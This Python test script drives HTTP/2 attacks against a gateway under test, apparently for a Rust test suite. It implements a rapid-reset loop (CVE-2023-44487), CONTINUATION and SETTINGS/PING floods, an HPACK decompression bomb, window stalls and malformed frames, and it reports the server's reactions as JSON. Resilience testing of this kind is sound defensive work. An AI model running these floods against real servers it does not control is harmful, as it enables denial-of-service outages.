#!/usr/bin/env python3
"""HTTP/2 attacks and protocol probes with hand-made frames, for tests/http2.rs.

    python3 tests/h2/attacks.py <command> <host:port> [options]

Each command prints one line of JSON describing what happened (frames
sent, GOAWAY / RST_STREAM received and their error codes, whether the
connection closed, responses) and exits 0; the Rust test asserts on it.
A missing package or an unreachable target exits 2 with a message.

Commands: settings, probe, rapid-reset, cancel-after-headers,
continuation-flood, hpack-bomb,
settings-flood, ping-flood, window-stall, beyond-limit, drain, idle,
malformed, get.

Checked against nginx 1.22 (`listen ... http2;`) as a reference server.
"""

import argparse
import json
import struct
import sys
import time

try:
    import hpack  # noqa: F401  (installed with the `h2` package)
except ImportError:
    print("attacks.py needs the Python package `h2` (pip install h2), which brings `hpack`", file=sys.stderr)
    sys.exit(2)

import h2raw
from h2raw import (
    Conn,
    END_HEADERS,
    HEADERS,
    CONTINUATION,
    DATA,
    SETTINGS,
    WINDOW_UPDATE,
    RST_STREAM,
    INITIAL_WINDOW_SIZE,
    HEADER_TABLE_SIZE,
    continuation_frame,
    data_frame,
    err_name,
    frame,
    headers_frame,
    indexed,
    literal,
    literal_indexed,
    ping_frame,
    request_block,
    rst_frame,
    settings_frame,
    window_update_frame,
)

CANCEL = 0x8


def out(result):
    print(json.dumps(result, sort_keys=True))
    sys.stdout.flush()


def connect(args, **kw):
    try:
        return Conn(args.target, **kw)
    except OSError as e:
        print("cannot connect to %s: %s" % (args.target, e), file=sys.stderr)
        sys.exit(2)


def stopped(c):
    return bool(c.goaways) or c.closed or c.send_failed


# ---------------------------------------------------------------------------


def cmd_settings(args):
    """The server's SETTINGS and connection window, after a PING barrier."""
    c = connect(args)
    ok = c.handshake()
    c.barrier()
    r = c.summary()
    s = c.server_settings or {}
    r.update(
        handshake=ok,
        max_concurrent_streams=s.get("max_concurrent_streams"),
        initial_window_size=s.get("initial_window_size", 65535),
        max_frame_size=s.get("max_frame_size", 16384),
        max_header_list_size=s.get("max_header_list_size"),
        connection_window=65535 + c.conn_window_updates,
    )
    out(r)


def cmd_probe(args):
    """Sends the preface and SETTINGS; is the answer an HTTP/2 SETTINGS frame?"""
    import socket

    host, port = h2raw.parse_addr(args.target)
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(h2raw.PREFACE + settings_frame())
    buf = b""
    try:
        while len(buf) < 9:
            chunk = s.recv(4096)
            if not chunk:
                break
            buf += chunk
    except OSError:
        pass
    s.close()
    is_settings = len(buf) >= 9 and buf[3] == SETTINGS and buf[4] == 0 and buf[5:9] == b"\0\0\0\0"
    out({"http2": is_settings, "first_bytes": buf[:40].hex()})


def cmd_rapid_reset(args):
    """CVE-2023-44487: HEADERS + RST_STREAM(CANCEL) in a loop."""
    c = connect(args)
    c.handshake()
    sent = 0
    sid = 1
    deadline = time.monotonic() + args.deadline
    while sent < args.streams and not stopped(c):
        batch = bytearray()
        for _ in range(min(args.batch, args.streams - sent)):
            batch += headers_frame(sid, request_block("GET", args.path, c.authority)) + rst_frame(sid, CANCEL)
            sid += 2
            sent += 1
        if not c.send(bytes(batch), deadline=deadline):
            break
    after_status = None
    if args.then_get and not stopped(c):
        c.request(sid, "GET", args.after_path)
        c.wait(lambda: sid in c.ended or sid in c.rst or bool(c.goaways), args.wait)
        after_status = c.status(sid)
    else:
        c.wait(lambda: bool(c.goaways) and c.closed, args.wait)
    r = c.summary()
    r.update(streams_sent=sent, responses=len(c.headers), after_status=after_status)
    c.close()
    out(r)


def cmd_cancel_after_headers(args):
    """Cancels --streams streams one by one, each once its response
    HEADERS came (so the gateway had accepted and proxied it), then (with
    --then-get) sends a GET of --after-path on the same connection."""
    c = connect(args)
    c.handshake()
    cancelled = 0
    sid = 1
    timeouts = 0
    while cancelled < args.streams and not stopped(c):
        c.request(sid, "GET", args.path)
        if not c.wait(lambda: sid in c.headers or sid in c.rst or bool(c.goaways), args.wait):
            timeouts += 1
            break
        if bool(c.goaways) or sid in c.rst:
            break
        c.send(rst_frame(sid, CANCEL))
        cancelled += 1
        sid += 2
    after_status = None
    if args.then_get and not stopped(c):
        c.request(sid, "GET", args.after_path)
        c.wait(lambda: sid in c.ended or sid in c.rst or bool(c.goaways), args.wait)
        after_status = c.status(sid)
    else:
        c.wait(lambda: c.closed, 2)
    r = c.summary()
    r.update(cancelled=cancelled, headers_timeouts=timeouts, after_status=after_status)
    c.close()
    out(r)


def cmd_continuation_flood(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end
    the block (full of header fields, or empty with --empty)."""
    c = connect(args)
    c.handshake()
    fsize = (c.server_settings or {}).get("max_frame_size", 16384)
    fsize = min(fsize, 16384)
    c.send(headers_frame(1, request_block("GET", args.path, c.authority), end_stream=True, end_headers=False))
    if args.empty:
        one = continuation_frame(1, b"")
    else:
        field = literal("x-flood", "a" * (fsize - 64))
        while len(field) + len(literal("x-flood", "a")) < fsize - 200:
            field += literal("x-flood", "a")
        one = continuation_frame(1, field)
    per_batch = max(1, 65536 // len(one))
    batch = one * per_batch
    frames = 0
    deadline = time.monotonic() + args.deadline
    while c.bytes_sent < args.bytes and not stopped(c):
        if not c.send(batch, deadline=deadline):
            break
        frames += per_batch
    c.wait(lambda: c.closed, args.wait)
    r = c.summary()
    r.update(continuation_frames_sent=frames, completed=c.bytes_sent >= args.bytes, status=c.status(1), limit_bytes=args.bytes)
    c.close()
    out(r)


def cmd_hpack_bomb(args):
    """One small header block that decodes to far more than any header list
    limit: a literal of --value-bytes enters the dynamic table, then
    --refs one-byte references to it."""
    c = connect(args)
    c.handshake()
    block = request_block("GET", args.path, c.authority)
    block += literal_indexed("x-bomb", "b" * args.value_bytes)
    block += indexed(62) * args.refs
    c.send(headers_frame(1, block))
    c.wait(lambda: 1 in c.ended or 1 in c.rst or bool(c.goaways), args.wait)
    status = c.status(1)
    # Is the connection still usable? A fresh small request on stream 3.
    usable_status = None
    if not c.goaways and not c.closed:
        c.request(3, "GET", args.after_path)
        c.wait(lambda: 3 in c.ended or 3 in c.rst or bool(c.goaways), args.wait)
        usable_status = c.status(3)
    r = c.summary()
    r.update(
        encoded_bytes=len(block),
        decoded_bytes=args.refs * (args.value_bytes + len("x-bomb") + 32),
        status=status,
        rst=err_name(c.rst.get(1)),
        after_status=usable_status,
    )
    c.close()
    out(r)


def flood(args, make):
    """Writes --frames frames made by make(i) without reading what comes
    back; reading starts only when a write stalls (the server stopped
    reading) or when the flood is over. Then a GET on stream 1 tells
    whether the connection is still usable."""
    c = connect(args)
    c.handshake()
    c.barrier()
    c.pause_reading()
    sent = 0
    deadline = time.monotonic() + args.deadline
    while sent < args.frames and not stopped(c):
        n = min(args.batch, args.frames - sent)
        if not c.send(b"".join(make(sent + i) for i in range(n)), block_probe_s=2.0, deadline=deadline):
            break
        sent += n
    if args.hold > 0:
        time.sleep(args.hold)
    c.resume_reading()
    status = None
    if not stopped(c):
        c.request(1, "GET", args.path)
        c.wait(lambda: 1 in c.ended or 1 in c.rst or bool(c.goaways), args.wait)
        status = c.status(1)
    else:
        c.wait(lambda: c.closed, args.wait)
    r = c.summary()
    r.update(frames_sent=sent, acks_received=c.settings_acks - 1 if args.kind == "settings" else c.ping_acks - 1, status=status, usable=status == 200)
    c.close()
    out(r)


def cmd_settings_flood(args):
    args.kind = "settings"
    frame_bytes = settings_frame([(HEADER_TABLE_SIZE, 4096)])
    flood(args, lambda i: frame_bytes)


def cmd_ping_flood(args):
    args.kind = "ping"
    flood(args, lambda i: ping_frame(struct.pack(">Q", i)))


def cmd_window_stall(args):
    """A window that never opens: SETTINGS_INITIAL_WINDOW_SIZE = --window
    (0 by default) and no WINDOW_UPDATE ever, while --streams streams
    request a large response; holds the connection for --hold seconds."""
    c = connect(args, settings=[(INITIAL_WINDOW_SIZE, args.window)], auto_window=False, keep_data=False)
    c.handshake()
    for i in range(args.streams):
        c.request(1 + 2 * i, "GET", args.path)
    time.sleep(args.hold)
    r = c.summary()
    r.update(
        streams=args.streams,
        responses=len(c.headers),
        data_bytes=sum(c.data.values()),
        streams_ended=len(c.ended),
    )
    c.close()
    out(r)


def cmd_beyond_limit(args):
    """Opens the server's MAX_CONCURRENT_STREAMS (or --limit) plus --extra
    streams, each a POST whose one-byte body is not sent yet; then sends
    the bodies of the first ones and waits for their responses."""
    c = connect(args)
    c.handshake()
    limit = args.limit or (c.server_settings or {}).get("max_concurrent_streams")
    if not limit:
        out({"error": "the server announced no SETTINGS_MAX_CONCURRENT_STREAMS; pass --limit"})
        return
    total = limit + args.extra
    sids = [1 + 2 * i for i in range(total)]
    first, extra = sids[:limit], sids[limit:]
    batch = b"".join(headers_frame(s, request_block("POST", args.path, c.authority, extra=[("content-length", "1")]), end_stream=False) for s in sids)
    c.send(batch)
    # Every extra stream is refused (or the connection goes away).
    c.wait(lambda: all(s in c.rst for s in extra) or bool(c.goaways), args.wait)
    refused = {str(s): err_name(c.rst.get(s)) for s in extra}
    c.send(b"".join(data_frame(s, b"x", end=True) for s in first))
    c.wait(lambda: all(s in c.ended or s in c.rst for s in first), args.wait)
    statuses = {}
    for s in first:
        k = str(c.status(s))
        statuses[k] = statuses.get(k, 0) + 1
    r = c.summary()
    r.update(
        limit=limit,
        opened=total,
        refused=refused,
        refused_count=sum(1 for v in refused.values() if v is not None),
        extra_answered=sum(1 for s in extra if c.status(s) is not None),
        first_answered=sum(1 for s in first if c.status(s) == 200 and s in c.ended),
        first_rst=sum(1 for s in first if s in c.rst),
        statuses=statuses,
    )
    c.close()
    out(r)


def cmd_drain(args):
    """A slow GET in flight while the server drains: GOAWAY (when it came
    relative to the end of the stream), the stream's status and body, then
    (with --after) a new stream opened after the GOAWAY, then the close."""
    c = connect(args)
    c.handshake()
    c.request(1, "GET", args.path)
    after = None
    if args.after:
        # A final GOAWAY (one whose last stream id leaves stream 3 out;
        # a graceful shutdown may first send 2^31-1) while stream 1 runs.
        final = lambda: any(g[0] < 3 for g in c.goaways)
        c.wait(lambda: final() or 1 in c.ended or 1 in c.rst, args.wait)
        if final() and not c.closed:
            c.request(3, "GET", args.path)
            after = 3
    c.wait(lambda: 1 in c.ended or 1 in c.rst, args.wait)
    c.wait(lambda: c.closed, args.wait)
    ev = [e for e in c.events]
    first_goaway = next((i for i, e in enumerate(ev) if e[0] == "goaway"), None)
    end1 = next((i for i, e in enumerate(ev) if e == ("end", 1)), None)
    r = c.summary()
    r.update(
        status=c.status(1),
        body=c.body(1).decode("latin-1")[:1000],
        ended=1 in c.ended,
        rst=err_name(c.rst.get(1)),
        goaway_before_end=first_goaway is not None and end1 is not None and first_goaway < end1,
        after_stream_status=c.status(3) if after else None,
        after_stream_rst=err_name(c.rst.get(3)) if after else None,
    )
    c.close()
    out(r)


def cmd_idle(args):
    """One GET, then nothing: does the server close the connection?"""
    c = connect(args)
    c.handshake()
    c.request(1, "GET", args.path)
    c.wait(lambda: 1 in c.ended, 10)
    status = c.status(1)
    c.wait(lambda: c.closed, args.wait)
    r = c.summary()
    r.update(status=status)
    c.close()
    out(r)


def cmd_get(args):
    """--n GETs of --path, one after another on one connection."""
    c = connect(args)
    c.handshake()
    res = []
    for i in range(args.n):
        sid = 1 + 2 * i
        hdrs = [tuple(h.split(":", 1)) for h in args.header]
        hdrs = [(n.strip().lower(), v.strip()) for n, v in hdrs]
        c.request(sid, args.method, args.path, extra=hdrs)
        c.wait(lambda: sid in c.ended or sid in c.rst or bool(c.goaways), args.wait)
        res.append({"status": c.status(sid), "headers": [list(h) for hs in c.headers.get(sid, []) for h in hs], "body": c.body(sid).decode("latin-1")[:4000]})
    r = c.summary()
    r["responses"] = res
    c.close()
    out(r)


# Malformed input: (name, what to send after the handshake, expected
# reaction). "conn" expects a GOAWAY with one of the codes; "stream"
# accepts RST_STREAM or GOAWAY with one of the codes.
def malformed_cases(auth):
    P = "PROTOCOL_ERROR"
    ok = request_block("GET", "/m", auth)
    return [
        # RFC 9113 asks for FRAME_SIZE_ERROR (6.5) and COMPRESSION_ERROR
        # (4.3) for these two; ringgate's contract is PROTOCOL_ERROR for any
        # malformed input, so both are accepted (the result says which).
        ("settings_bad_length", frame(SETTINGS, 0, 0, b"\0\x03\0\0\0"), "conn", ["FRAME_SIZE_ERROR", P]),
        ("settings_on_stream", frame(SETTINGS, 0, 1, b""), "conn", [P]),
        ("headers_on_stream_0", headers_frame(0, ok), "conn", [P]),
        ("even_stream_id", headers_frame(2, ok), "conn", [P]),
        ("window_update_zero", window_update_frame(0, 0), "conn", [P]),
        ("data_on_idle_stream", data_frame(5, b"hello", end=True), "conn", [P, "STREAM_CLOSED"]),
        ("rst_on_idle_stream", rst_frame(7, CANCEL), "conn", [P]),
        ("continuation_without_headers", continuation_frame(1, ok, end_headers=True), "conn", [P]),
        ("garbage_hpack", headers_frame(1, b"\xff\xff\xff\xff\xff\xff\xff\xff\x7f"), "conn", ["COMPRESSION_ERROR", P]),
        ("uppercase_header_name", headers_frame(1, ok + literal("X-Upper", "1")), "stream", [P]),
        ("missing_path", headers_frame(1, literal(":method", "GET") + literal(":scheme", "http") + literal(":authority", auth)), "stream", [P]),
        ("connection_header", headers_frame(1, ok + literal("connection", "keep-alive")), "stream", [P]),
        ("transfer_encoding_header", headers_frame(1, ok + literal("transfer-encoding", "chunked")), "stream", [P]),
        ("pseudo_after_regular", headers_frame(1, literal(":method", "GET") + literal("x-a", "1") + literal(":scheme", "http") + literal(":authority", auth) + literal(":path", "/m")), "stream", [P]),
        ("unknown_pseudo_header", headers_frame(1, ok + literal(":bogus", "1")), "stream", [P]),
        (
            "content_length_mismatch",
            headers_frame(1, request_block("POST", "/m", auth, extra=[("content-length", "10")]), end_stream=False) + data_frame(1, b"abc", end=True),
            "stream",
            [P],
        ),
        ("oversized_frame", frame(DATA, 0, 1, b"", length=1 << 20), "conn", ["FRAME_SIZE_ERROR"]),
    ]


def cmd_malformed(args):
    results = {}
    for name, payload, scope, codes in malformed_cases(args.target):
        if args.case and name not in args.case:
            continue
        c = connect(args)
        c.handshake()
        c.send(payload)
        c.wait(lambda: bool(c.goaways) or 1 in c.rst or 1 in c.ended or c.closed, args.wait)
        # A connection error may close without GOAWAY reaching us; wait a
        # little for the close itself.
        if c.goaways:
            c.wait(lambda: c.closed, 2)
        g = c.first_goaway()
        results[name] = {
            "scope": scope,
            "expected": codes,
            "goaway": err_name(g[1]) if g else None,
            "rst": err_name(c.rst.get(1)),
            "status": c.status(1),
            "closed": c.closed,
        }
        got = [results[name]["goaway"]] if scope == "conn" else [results[name]["goaway"], results[name]["rst"]]
        results[name]["ok"] = any(x in codes for x in got if x)
        c.close()
    out({"cases": results, "all_ok": all(r["ok"] for r in results.values())})


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)

    def add(name, fn, **defaults):
        sp = sub.add_parser(name)
        sp.add_argument("target", help="host:port of an h2c (prior knowledge) listener")
        sp.add_argument("--path", default=defaults.get("path", "/"))
        sp.add_argument("--wait", type=float, default=defaults.get("wait", 10.0), help="seconds to wait for an expected reaction")
        sp.add_argument("--deadline", type=float, default=60.0, help="seconds the sending may take at most")
        sp.set_defaults(fn=fn)
        return sp

    add("settings", cmd_settings)
    add("probe", cmd_probe)
    sp = add("rapid-reset", cmd_rapid_reset)
    sp.add_argument("--streams", type=int, default=20000)
    sp.add_argument("--batch", type=int, default=100)
    sp.add_argument("--then-get", action="store_true", help="then a GET of --after-path on the same connection")
    sp.add_argument("--after-path", default="/after")
    sp = add("cancel-after-headers", cmd_cancel_after_headers)
    sp.add_argument("--streams", type=int, default=150)
    sp.add_argument("--then-get", action="store_true")
    sp.add_argument("--after-path", default="/after")
    sp = add("continuation-flood", cmd_continuation_flood)
    sp.add_argument("--bytes", type=int, default=64 << 20)
    sp.add_argument("--empty", action="store_true", help="empty CONTINUATION frames")
    sp = add("hpack-bomb", cmd_hpack_bomb)
    sp.add_argument("--refs", type=int, default=500)
    sp.add_argument("--value-bytes", type=int, default=4000)
    sp.add_argument("--after-path", default="/after-bomb", help="path of the small request sent when the connection survived")
    for name, fn in (("settings-flood", cmd_settings_flood), ("ping-flood", cmd_ping_flood)):
        sp = add(name, fn)
        sp.add_argument("--frames", type=int, default=100000)
        sp.add_argument("--batch", type=int, default=1000)
        sp.add_argument("--hold", type=float, default=0.0, help="seconds to keep not reading after the flood")
    sp = add("window-stall", cmd_window_stall, path="/big")
    sp.add_argument("--streams", type=int, default=100)
    sp.add_argument("--window", type=int, default=0)
    sp.add_argument("--hold", type=float, default=3.0)
    sp = add("beyond-limit", cmd_beyond_limit)
    sp.add_argument("--limit", type=int, default=0)
    sp.add_argument("--extra", type=int, default=10)
    sp = add("drain", cmd_drain, path="/slow", wait=20.0)
    sp.add_argument("--after", action="store_true", help="open a new stream once the GOAWAY came")
    sp = add("idle", cmd_idle)
    sp = add("malformed", cmd_malformed, wait=5.0)
    sp.add_argument("--case", action="append", default=[])
    sp = add("get", cmd_get)
    sp.add_argument("--n", type=int, default=1)
    sp.add_argument("--method", default="GET")
    sp.add_argument("--header", action="append", default=[])
    args = p.parse_args()
    args.fn(args)


if __name__ == "__main__":
    main()
